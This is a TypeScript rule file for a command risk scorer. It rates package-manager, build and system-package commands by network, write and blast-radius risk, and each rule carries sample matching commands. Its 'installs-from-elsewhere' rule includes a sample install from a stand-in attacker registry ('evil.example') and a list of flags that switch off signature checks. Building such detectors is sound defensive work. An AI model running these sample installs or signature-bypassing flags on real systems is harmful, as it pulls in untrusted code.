import { all, any, asksOnly, flag, not, operand, verb, verbLike, word } from './conditions.ts';
import type { Condition, Rule } from './rule.ts';

const MANAGERS =
  'npm pnpm yarn bun bower pip pipx uv poetry pdm hatch pipenv conda mamba micromamba gem bundle bundler composer cargo go brew port apt apt-get aptitude dpkg yum dnf microdnf rpm zypper pacman yay paru apk emerge xbps-install xbps-remove pkg opkg snap flatpak nix nix-env nix-channel guix choco winget scoop mvn gradle gradlew mvnw sbt lein dotnet nuget cabal stack luarocks cpan cpanm opam mix rebar3 asdf mise rustup nvm pyenv rbenv sdk volta easy_install corepack deno vcpkg conan swift pod carthage tlmgr julia pkgin slackpkg urpmi eopkg swupd';
/** The first operand is the verb, except where flags are: there it is a package's name. */
const firstIs =
  (test: RegExp): Condition =>
  ({ program, operands }) =>
    !BY_FLAG.test(program) && test.test(operands[0]?.text ?? '');

/** `uv pip install`, `conda env create`, `yarn global add`: a noun before the verb. */
const installs: Condition = ({ operands }) =>
  /^(install|add|update|upgrade|create|sync|download)$/.test(operands[1]?.text ?? '') &&
  /^(pip|env|global|tool|toolchain|profile|plugin|target|component|channel|repo|group|module|cask|bundle|self)$/.test(
    operands[0]?.text ?? '',
  );

/** System package managers that are asked with a capital or small letter instead of a word. */
const asks = any(
  word(
    /^-(Q|q|F|T|V|l|s|L|p|S[silgw]|-q|-l|-s|-query|-search|-list|-status|-pretend|-get-selections|-audit|-C)/,
  ),
  all(({ program }) => program === 'dpkg', word(/^-[SICpV]$/)),
);

const BY_FLAG = /^(pacman|yay|paru|rpm|dpkg|nix-env|emerge)$/;
const byFlag: Condition = (c) => BY_FLAG.test(c.program) && !asks(c);

/** Words that run scripts elsewhere, and only look here. */
const onlyChecks: Condition = any(
  all(({ program }) => /^(pip|pip3|poetry|conda|flatpak|opkg)$/.test(program), firstIs(/^check$/)),
  all(({ program }) => program === 'go', firstIs(/^doc$/)),
  all(({ program }) => program === 'cargo', firstIs(/^fmt$/), flag('--check')),
  all(({ program }) => program === 'nix', verb('eval, flake show, flake metadata')),
  all(
    ({ program, operands, args }) =>
      /^(npm|pnpm|yarn)$/.test(program) && operands.length === 1 && args.length === 1,
    firstIs(/^run$/),
  ),
);

/** Where `clean` takes away what was built; elsewhere it takes packages away. */
const cleansBuild: Condition = all(
  ({ program }) => /^(cargo|mvnw?|gradlew?|sbt|lein|mix|dotnet|swift|stack|cabal)$/.test(program),
  firstIs(/^clean$/),
);

const JUST_RUN = 'npx bunx pnpx uvx tox nox';

export const PACKAGES: readonly Rule[] = [
  {
    id: 'installs-packages',
    programs: MANAGERS,
    when: all(
      not(verb('mod graph, mod why, mod verify')),
      any(
        installs,
        firstIs(
          /^(install|i|ci|add|update|upgrade|up|get|sync|lock|fetch|download|dist-upgrade|full-upgrade|refresh|mod|build-dep|reinstall|require|dedupe|restore|bundle|create|init|localinstall|groupinstall|tap|global|dlx|self-update|resolve|dependency:.*|pull|tool|hold|mark|link|unhold|source|patch|vendor|self|use|shell|repo|addrepo|channel|remote-add|switch|in|dup|swap|downgrade|makecache)$/,
        ),
        all(
          byFlag,
          flag('-S -U -i --install -Syu -Sy -iA --sync --upgrade -e -ivh -Uvh --configure --import -D'),
        ),
        ({ program, operands, flags }) =>
          (program === 'yarn' || program === 'bundle') && operands.length === 0 && flags.size === 0,
        all(
          ({ program }) => /^(xbps-install|easy_install|emerge|cpan|cpanm|urpmi)$/.test(program),
          not(asks),
        ),
      ),
    ),
    dimension: 'network',
    points: 4,
    message: 'fetches packages from the network',
    matches: ['npm install', 'pip install requests', 'sudo apt-get install -y jq', 'pacman -Syu', 'yarn'],
    not_matches: ['npm view express', 'pip list', 'dpkg -l', 'pacman -Qi bash'],
  },
  {
    id: 'package-scripts-run',
    programs: MANAGERS,
    when: all(
      any(
        installs,
        firstIs(
          /^(install|i|ci|add|update|upgrade|create|init|dist-upgrade|full-upgrade|sync|get|require|reinstall|dlx)$/,
        ),
        all(byFlag, flag('-S', '-U', '-i', '--install', '-ivh', '-Uvh', '-Syu', '-Sy')),
        ({ program, operands, flags }) =>
          (program === 'yarn' || program === 'bundle') && operands.length === 0 && flags.size === 0,
      ),
    ),
    dimension: 'write',
    points: 4,
    message: 'packages bring scripts that run on installation',
    opaque: true,
    matches: ['npm ci', 'pip install -r requirements.txt', 'cargo install ripgrep'],
    not_matches: ['npm ls', 'apt list'],
  },
  {
    id: 'installs-from-elsewhere',
    programs: MANAGERS,
    when: any(
      operand(/^(git\+)?(https?|ftp|ssh):\/\/|^git\+|^github:/),
      flag(
        '--index-url --extra-index-url --registry --allow-unauthenticated --no-gpg-check',
        '--nogpgcheck --trusted-host --no-verify --force-yes --no-check-gpg',
      ),
      ({ program, flags }) => /^pip|^uv$/.test(program) && flags.has('-i'),
    ),
    dimension: 'network',
    points: 6,
    message: 'installs from a source that nobody vouches for',
    opaque: true,
    matches: ['pip install git+https://example.com/a', 'npm i --registry http://evil.example x'],
    not_matches: ['pip install requests', 'npm install'],
  },
  {
    id: 'removes-packages',
    programs: MANAGERS,
    when: all(
      not(cleansBuild),
      not(firstIs(/^(search|show|info|list|ls|view|why|explain|home|docs|help)$/)),
      any(
        verbLike(
          /^(uninstall|remove|rm|un|purge|autoremove|erase|prune|clean|cleanup|delete|unlink|untap|deselect|yank|gc|collect-garbage|autoclean|zap|r|del|cache|wipe-history|expire-generations|rollback|undo)$/,
        ),
        all(byFlag, flag('-R -Rs -Rns --remove --purge --erase -P -Rdd --delete-generations -Sc -Scc')),
        ({ program }) => program === 'xbps-remove',
      ),
    ),
    dimension: 'write',
    points: 4,
    message: 'removes packages or their caches',
    matches: ['apt remove jq', 'brew cleanup', 'pacman -Rs jq', 'pip uninstall requests'],
    not_matches: ['apt list', 'npm view a'],
  },
  {
    id: 'removes-build',
    programs: 'cargo mvn mvnw gradle gradlew sbt lein mix dotnet swift stack cabal',
    when: cleansBuild,
    dimension: 'write',
    points: 4,
    message: 'removes what was built',
    matches: ['cargo clean', 'mvn clean'],
    not_matches: ['cargo build', 'mvn verify'],
  },
  {
    id: 'bumps-version',
    programs: 'npm pnpm yarn poetry pdm hatch cargo',
    when: all(verb('version'), (c) => c.operands.length > 1),
    dimension: 'write',
    points: 4,
    message: 'changes the version of the project, and may commit and tag it',
    matches: ['npm version patch', 'poetry version minor'],
    not_matches: ['npm version', 'npm view a version'],
  },
  {
    id: 'publishes-packages',
    programs: `${MANAGERS} twine`,
    // `dotnet publish` writes into a directory.
    when: all(
      ({ program, operands }) => program !== 'dotnet' || operands[0]?.text === 'nuget',
      verbLike(
        /^(publish|unpublish|deprecate|push|upload|dist-tag|owner|yank|login|adduser|logout|token|access|deploy|release|team|star)$/,
      ),
    ),
    dimension: 'blast_radius',
    points: 7,
    message: 'changes what a package registry offers to everyone',
    matches: ['npm publish', 'cargo publish', 'twine upload dist/*', 'npm unpublish a'],
    not_matches: ['npm view a', 'dotnet publish -c Release'],
  },
  {
    id: 'runs-project-scripts',
    programs: `${MANAGERS} ${JUST_RUN}`,
    when: all(
      not(onlyChecks),
      any(
        firstIs(
          /^(run|test|t|start|exec|x|build|rebuild|develop|bench|compile|package|verify|deploy|generate|gen|eval|serve|dev|lint|task|watch|stop|restart|b|r|check|clippy|fmt|doc|vet|fix|pack|ws|workspace|script|run-script|runscript|bootRun|assemble|site|javadoc|format|tool|tidy|dotenv)$/,
        ),
        all(({ program }) => JUST_RUN.split(' ').includes(program), not(asksOnly)),
        all(({ program }) => /^(mvnw?|gradlew?|sbt|lein|mix|deno)$/.test(program), not(asksOnly)),
      ),
    ),
    dimension: 'write',
    points: 4,
    message: 'runs scripts of the project that are not read here',
    opaque: true,
    matches: ['npm test', 'cargo build', 'npx prettier .', 'go run main.go', 'mvn verify'],
    not_matches: ['npm ls', 'go version', 'npx --version'],
  },
  {
    id: 'asks-registry',
    programs: MANAGERS,
    when: any(
      verb('view, info, search, show, outdated, audit, ping, whoami, find, browse, index, download'),
      flag('-Ss', '--refresh', '-Sw'),
    ),
    dimension: 'network',
    points: 2,
    message: 'asks a package registry',
    matches: ['npm view express', 'pip search a'],
    not_matches: ['npm ls'],
  },
  {
    id: 'installs-package-file',
    programs:
      'dpkg rpm dpkg-reconfigure update-alternatives alternatives update-rc.d ldconfig depmod dracut update-initramfs grub-install update-grub mkinitcpio apt-key apt-mark add-apt-repository dpkg-divert pacman-key update-ca-certificates update-ca-trust debconf-set-selections certctl',
    when: all(
      not(all(({ program }) => program === 'rpm', flag('-q', '--query', '-V', '--verify'))),
      any(
        flag(
          '-i --install -U -e --erase -r -P --set --config --remove --unpack --import --configure -F --auto -ivh -Uvh',
        ),
        all(
          ({ program }) => !/^(dpkg|rpm|ldconfig|update-alternatives|alternatives)$/.test(program),
          not(verb('showhold, showmanual, showauto, showinstall, list')),
        ),
      ),
    ),
    dimension: 'write',
    points: 5,
    message: 'changes the software of the system',
    matches: [
      'dpkg -i a.deb',
      'rpm -e a',
      'update-alternatives --set editor /usr/bin/vim',
      'update-ca-trust',
    ],
    not_matches: ['dpkg -l', 'rpm -qa', 'rpm -qi bash', 'apt-mark showhold', 'dpkg -S /bin/ls'],
  },
  {
    id: 'builds-project',
    programs:
      'make gmake cmake ninja meson bazel buck buck2 scons ant rake just task gulp grunt webpack vite rollup turbo nx lerna jest vitest mocha pytest phpunit rspec cypress playwright tox nox pre-commit expo ng next nuxt hugo jekyll setup.py qmake waf rails rake invoke fab pants earthly dagger act',
    when: not(asksOnly),
    dimension: 'write',
    points: 4,
    message: 'runs the steps of the project, which are not read here',
    opaque: true,
    matches: ['make', 'make all', 'pytest tests'],
    not_matches: ['make --version', 'gcc a.c'],
  },
  {
    id: 'compiles',
    programs:
      'autoconf automake autoreconf configure gcc g++ cc c++ clang clang++ tcc javac rustc tsc swiftc ghc ld as ar ranlib strip objcopy kotlinc scalac nasm yasm esbuild parcel pandoc pdflatex latex xelatex latexmk sphinx-build mkdocs doxygen protoc msgfmt flex bison lex yacc antlr4 libtool vue flutter dart pyinstaller mypy pylint flake8 phpstan phan shellcheck golangci-lint swig cython ctags etags cscope libtoolize m4',
    when: all(not(asksOnly), (c) => c.args.length > 0 || c.fed),
    dimension: 'write',
    points: 3,
    message: 'compiles or checks files and writes what comes of it',
    matches: ['gcc a.c -o a', 'tsc -p .'],
    not_matches: ['gcc --version', 'make'],
  },
];
